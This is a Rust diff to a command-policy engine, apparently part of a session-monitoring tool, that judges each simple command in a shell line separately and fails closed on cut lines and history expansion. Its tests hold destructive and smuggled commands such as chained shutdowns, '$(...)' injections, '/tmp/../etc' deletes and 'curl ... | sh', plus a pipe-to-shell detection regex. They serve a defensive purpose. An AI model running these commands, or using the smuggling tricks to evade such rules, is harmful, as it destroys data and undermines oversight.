@@ -2,23 +2,32 @@
 //!
 //! ## Order and precedence
 //!
-//! Rules are evaluated in file order against every form of the event (for commands, see
-//! [`command_forms`](super::command_forms)). Every matching rule that applies to the
-//! session (its `targets` and `roles`) is collected, until the first matching `allow` rule,
-//! which ends the evaluation: an `allow` rule is an exception for the rules *after* it.
-//! The result is the most severe action collected
+//! Rules are evaluated in file order against every form of the event. Every matching rule
+//! that applies to the session (its `targets` and `roles`) is collected, until the first
+//! matching `allow` rule, which ends the evaluation: an `allow` rule is an exception for the
+//! rules *after* it. The result is the most severe action collected
 //! (`terminate > lock > pause > require-approval > alert > allow`). A command or transfer
 //! that matched nothing gets the policy's `default_action`; output that matched nothing
 //! yields no decision.
+//!
+//! A command line is judged **per simple command** ([`command_units`]): each gets its own
+//! evaluation (its normalised forms, the commands its wrappers run), its own `allow`
+//! exception and its own default, and the line gets the most severe result. An `allow`
+//! therefore covers only the simple command it matched: with an allow on `rm -rf /tmp/*`,
+//! `rm -rf /tmp/x; shutdown -h now` is still judged on `shutdown -h now`. The line as
+//! typed is matched too, for rules that span commands (`curl ... | sh`), but only rules
+//! that matched none of its simple commands count from there, and never an `allow`.
 
 use std::sync::Arc;
 
 use regex::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
 
-use super::action::{Action, Decision, LineSource, PolicyEvent, RuleMatch, TransferDirection};
+use super::action::{
+    Action, Decision, Incomplete, LineSource, PolicyEvent, RuleMatch, TransferDirection,
+};
 use super::config::{PolicyConfig, RuleConfig, Subject, invalid};
 use super::pattern::glob_to_regex;
-use super::shell::command_forms;
+use super::shell::command_units;
 use crate::CoreError;
 
 /// Bytes one compiled pattern may take.
@@ -124,6 +133,8 @@ pub struct Policy {
     transfer: SubjectSet,
     default_action: Action,
     unechoed_input: Action,
+    incomplete_command: Action,
+    history_expansion: Action,
 }
 
 impl Policy {
@@ -158,6 +169,8 @@ impl Policy {
             transfer: SubjectSet::build(cfg, Subject::Transfer)?,
             default_action: cfg.default_action,
             unechoed_input: cfg.unechoed_input,
+            incomplete_command: cfg.incomplete_command,
+            history_expansion: cfg.history_expansion,
         }))
     }
 
@@ -179,6 +192,8 @@ impl Policy {
             transfer: empty(),
             default_action: Action::Allow,
             unechoed_input: Action::Allow,
+            incomplete_command: Action::Allow,
+            history_expansion: Action::Allow,
         })
     }
 
@@ -204,10 +219,12 @@ impl Policy {
             })
             .collect();
         let any_output = self.output.rules.iter().any(|&i| applies[i]);
+        let any_command = self.command.rules.iter().any(|&i| applies[i]);
         SessionPolicy {
             policy: Arc::clone(self),
             applies: applies.into(),
             any_output,
+            any_command,
         }
     }
 }
@@ -241,6 +258,7 @@ pub struct SessionPolicy {
     policy: Arc<Policy>,
     applies: Arc<[bool]>,
     any_output: bool,
+    any_command: bool,
 }
 
 impl SessionPolicy {
@@ -270,6 +288,7 @@ impl SessionPolicy {
                 event,
                 action: self.policy.default_action,
                 matched: Vec::new(),
+                incomplete: None,
             })
     }
 
@@ -323,27 +342,104 @@ impl SessionPolicy {
         late: bool,
         truncated: bool,
     ) -> Decision {
-        let mut hits = vec![false; self.policy.rules.len()];
-        if !self.policy.command.rules.is_empty() {
+        let n = self.policy.rules.len();
+        let mut collected = vec![false; n];
+        let mut action = None;
+        let mut cut = truncated;
+        let mut history = false;
+        if self.any_command {
+            let mut hits = vec![false; n];
+            let mut in_commands = vec![false; n];
             for reading in readings {
-                for form in command_forms(reading) {
-                    self.policy.command.mark(&form, &mut hits);
+                let units = command_units(reading);
+                cut |= units.cut;
+                // Only an interactive shell (or vi's `:!`) expands history.
+                history |= units.history_expansion && source != LineSource::Exec;
+                in_commands.fill(false);
+                let whole = [units.line.clone()];
+                let owned;
+                let commands: &[Vec<String>] = if units.commands.is_empty() {
+                    // No command word at all (`a=1`, a lone redirection): the line is the
+                    // one thing to judge.
+                    owned = vec![whole.to_vec()];
+                    &owned
+                } else {
+                    &units.commands
+                };
+                for forms in commands {
+                    hits.fill(false);
+                    for form in forms {
+                        self.policy.command.mark(form, &mut hits);
+                    }
+                    for (seen, hit) in in_commands.iter_mut().zip(&hits) {
+                        *seen |= *hit;
+                    }
+                    let one = self.collect(&hits, &mut collected);
+                    action = action.max(Some(one.unwrap_or(self.policy.default_action)));
+                }
+                // The line as typed: rules spanning commands, never an exception.
+                hits.fill(false);
+                self.policy.command.mark(&units.line, &mut hits);
+                for (i, rule) in self.policy.rules.iter().enumerate() {
+                    if hits[i] && !in_commands[i] && self.applies[i] && rule.action != Action::Allow
+                    {
+                        collected[i] = true;
+                        action = action.max(Some(rule.action));
+                    }
                 }
             }
         }
-        let event = PolicyEvent::Command {
-            line: shown.to_owned(),
-            source,
-            late,
-            truncated,
-        };
-        // `decide` with a default always answers.
-        self.decide(event.clone(), &hits, Some(self.policy.default_action))
-            .unwrap_or(Decision {
-                event,
-                action: self.policy.default_action,
-                matched: Vec::new(),
+        let mut action = action.unwrap_or(self.policy.default_action);
+        let mut incomplete = None;
+        if self.any_command && history {
+            incomplete = Some(Incomplete::HistoryExpansion);
+            action = action.max(self.policy.history_expansion);
+        }
+        if self.any_command && cut {
+            incomplete = Some(Incomplete::Cut);
+            action = action.max(self.policy.incomplete_command);
+        }
+        let matched = self
+            .policy
+            .rules
+            .iter()
+            .enumerate()
+            .filter(|(i, _)| collected[*i])
+            .map(|(i, rule)| RuleMatch {
+                index: i,
+                name: Arc::clone(&rule.name),
+                action: rule.action,
+                message: rule.message.clone(),
             })
+            .collect();
+        Decision {
+            event: PolicyEvent::Command {
+                line: shown.to_owned(),
+                source,
+                late,
+                truncated,
+            },
+            action,
+            matched,
+            incomplete,
+        }
+    }
+
+    /// Collects, for one simple command, the rules its `hits` name that apply to the
+    /// session, in file order up to the first `allow`; returns their most severe action.
+    fn collect(&self, hits: &[bool], collected: &mut [bool]) -> Option<Action> {
+        let mut worst = None;
+        for (i, rule) in self.policy.rules.iter().enumerate() {
+            if !hits[i] || !self.applies[i] {
+                continue;
+            }
+            collected[i] = true;
+            worst = worst.max(Some(rule.action));
+            if rule.action == Action::Allow {
+                break;
+            }
+        }
+        worst
     }
 
     /// The decision for a line of `chars` characters typed and never shown on the screen (it
@@ -353,6 +449,7 @@ impl SessionPolicy {
             event: PolicyEvent::UnechoedInput { chars },
             action: self.policy.unechoed_input,
             matched: Vec::new(),
+            incomplete: None,
         }
     }
 
@@ -386,6 +483,7 @@ impl SessionPolicy {
             event,
             action,
             matched,
+            incomplete: None,
         })
     }
 }
@@ -492,6 +590,147 @@ mod tests {
         );
 
         assert_eq!(s.judge_command("drop table users;").action, Action::Alert);
+    }
+
+    /// docs/policy.md's example policy.
+    const DOCS_POLICY: &str = r#"
+        default_action = "allow"
+
+        [[rule]]
+        name = "tmp-cleanup"
+        glob = "rm -rf /tmp/*"
+        action = "allow"
+
+        [[rule]]
+        name = "recursive-delete"
+        regex = '^rm\s+(-\w*[rR]\w*\s+|--recursive\s+)'
+        action = "require-approval"
+
+        [[rule]]
+        name = "no-shutdown"
+        glob = "shutdown*"
+        case_insensitive = true
+        action = "terminate"
+
+        [[rule]]
+        name = "pipe-to-shell"
+        regex = '\|\s*(ba)?sh\b'
+        action = "alert"
+    "#;
+
+    #[test]
+    fn an_allow_covers_only_the_simple_command_it_matched() {
+        let s = Policy::from_toml(DOCS_POLICY)
+            .unwrap()
+            .for_session(&SessionScope::default());
+        let judge = |l: &str| s.judge_command(l);
+        assert_eq!(judge("rm -rf /tmp/x").action, Action::Allow);
+        for line in [
+            "rm -rf /tmp/x; shutdown -h now",
+            "rm -rf /tmp/x && shutdown -h now",
+            "rm -rf /tmp/x || shutdown -h now",
+            "rm -rf /tmp/x | shutdown -h now",
+            "rm -rf /tmp/x & shutdown -h now",
+            "rm -rf /tmp/x\nshutdown -h now",
+            "rm -rf /tmp/x (shutdown -h now)",
+            "rm -rf /tmp/x $(shutdown -h now)",
+            "rm -rf /tmp/x `shutdown -h now`",
+            "rm -rf /tmp/x; sudo shutdown -h now",
+        ] {
+            let d = judge(line);
+            assert_eq!(d.action, Action::Terminate, "{line:?}: {d:?}");
+            assert_eq!(d.deciding_rule().unwrap().name.as_ref(), "no-shutdown");
+        }
+        for line in [
+            "rm -rf /tmp/../etc",
+            "rm -rf /tmp/x/../../etc",
+            "rm -rf /tmp/x; rm -rf /etc",
+            "rm -rf '/tmp/'../etc",
+        ] {
+            let d = judge(line);
+            assert_eq!(d.action, Action::RequireApproval, "{line:?}: {d:?}");
+        }
+        // Each command allowed on its own: the line is.
+        assert_eq!(judge("rm -rf /tmp/x; rm -rf /tmp/y").action, Action::Allow);
+        // A rule spanning commands still sees the line, even after an allow.
+        let d = judge("rm -rf /tmp/x; curl http://x | sh");
+        assert_eq!(d.action, Action::Alert, "{d:?}");
+    }
+
+    #[test]
+    fn an_allow_list_needs_every_command_allowed() {
+        let s = Policy::from_toml(
+            r#"
+            default_action = "require-approval"
+            [[rule]]
+            name = "ls"
+            glob = "ls*"
+            action = "allow"
+            [[rule]]
+            name = "cd-tmp"
+            regex = '^cd /tmp$'
+            action = "allow"
+        "#,
+        )
+        .unwrap()
+        .for_session(&SessionScope::default());
+        assert_eq!(s.judge_command("ls -l").action, Action::Allow);
+        assert_eq!(s.judge_command("cd /tmp && ls -l").action, Action::Allow);
+        assert_eq!(
+            s.judge_command("ls -l; reboot").action,
+            Action::RequireApproval
+        );
+        assert_eq!(
+            s.judge_command("ls $(reboot)").action,
+            Action::RequireApproval
+        );
+    }
+
+    #[test]
+    fn cut_lines_and_history_expansion_fail_closed() {
+        let s = Policy::from_toml(DOCS_POLICY)
+            .unwrap()
+            .for_session(&SessionScope::default());
+        // 63 harmless commands, then the one that matters: judged.
+        let mut line: String = (1..=63).map(|i| format!(": {i}; ")).collect();
+        line.push_str("shutdown -h now");
+        let d = s.judge_command(&line);
+        assert_eq!((d.action, d.incomplete), (Action::Terminate, None));
+        // Past every bound: the configured action, never a silent allow.
+        let mut line: String = (0..2000).map(|i| format!(": {i}; ")).collect();
+        line.push_str("shutdown -h now");
+        let d = s.judge_command(&line);
+        assert_eq!(
+            (d.action, d.incomplete),
+            (Action::RequireApproval, Some(Incomplete::Cut))
+        );
+        // Cut by the reader (max_line).
+        let d = s.judge_line("rm -rf /tmp/x", LineSource::Keystrokes, false, true);
+        assert_eq!(d.action, Action::RequireApproval);
+        assert!(d.summary().contains("[cut]"), "{}", d.summary());
+        // History expansion at a terminal: alert by default; not in an exec request.
+        let d = s.judge_line("sudo !!", LineSource::Keystrokes, false, false);
+        assert_eq!(
+            (d.action, d.incomplete),
+            (Action::Alert, Some(Incomplete::HistoryExpansion))
+        );
+        assert_eq!(s.judge_command("echo !!").incomplete, None);
+        let strict = Policy::from_toml(&format!(
+            "history_expansion = \"require-approval\"\nincomplete_command = \"terminate\"\n{DOCS_POLICY}"
+        ))
+        .unwrap()
+        .for_session(&SessionScope::default());
+        let d = strict.judge_line("^tmp^etc", LineSource::Screen, false, false);
+        assert_eq!(d.action, Action::RequireApproval);
+        let d = strict.judge_line("ls", LineSource::Screen, false, true);
+        assert_eq!(d.action, Action::Terminate);
+        // No command rules in the session: nothing to escape, nothing held.
+        let none = Policy::allow_all().for_session(&SessionScope::default());
+        assert_eq!(
+            none.judge_line("x", LineSource::Keystrokes, false, true)
+                .action,
+            Action::Allow
+        );
     }
 
     #[test]
